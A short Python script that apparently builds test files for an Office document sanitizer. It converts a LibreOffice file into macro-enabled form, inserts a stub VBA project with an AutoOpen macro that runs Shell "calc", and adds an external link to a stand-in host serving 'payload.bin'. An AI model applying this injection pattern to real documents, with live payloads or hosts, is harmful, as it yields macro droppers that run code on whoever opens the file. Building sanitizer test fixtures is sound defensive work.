#!/usr/bin/env python3
"""inject_macro.py IN OUT — make an Office file written by a real office
suite into its macro-enabled form: a VBA project part related from the main
part, the macro-enabled main content type, and an external link
(TargetMode="External") from the main part. Used on documents LibreOffice
wrote, so that the sanitizer meets real-world package structure."""
import re, sys, zipfile

src, dst = sys.argv[1], sys.argv[2]
zin = zipfile.ZipFile(src)
parts = {n: zin.read(n) for n in zin.namelist()}
root = parts["_rels/.rels"].decode()
main = re.search(r'Type="[^"]*/officeDocument"[^>]*Target="/?([^"]+)"|Target="/?([^"]+)"[^>]*Type="[^"]*/officeDocument"', root)
main = main.group(1) or main.group(2)
d, base = main.rsplit("/", 1)
macro = {"word": "application/vnd.ms-word.document.macroEnabled.main+xml",
         "xl": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
         "ppt": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"}[d]
ct = parts["[Content_Types].xml"].decode()
ct = re.sub(r'(<Override[^>]*PartName="/%s"[^>]*ContentType=")[^"]+(")' % re.escape(main), r"\g<1>%s\g<2>" % macro, ct)
ct = re.sub(r'(<Override[^>]*ContentType=")[^"]+("[^>]*PartName="/%s")' % re.escape(main), r"\g<1>%s\g<2>" % macro, ct)
ct = ct.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
parts["[Content_Types].xml"] = ct.encode()
rels_name = "%s/_rels/%s.rels" % (d, base)
rels = parts[rels_name].decode()
rels = rels.replace("</Relationships>",
                    '<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                    '<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://203.0.113.9/payload.bin" TargetMode="External"/>'
                    "</Relationships>")
parts[rels_name] = rels.encode()
parts["%s/vbaProject.bin" % d] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"Sub AutoOpen()\nShell \"calc\"\nEnd Sub\n"
with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
    for n, data in parts.items():
        z.writestr(n, data)
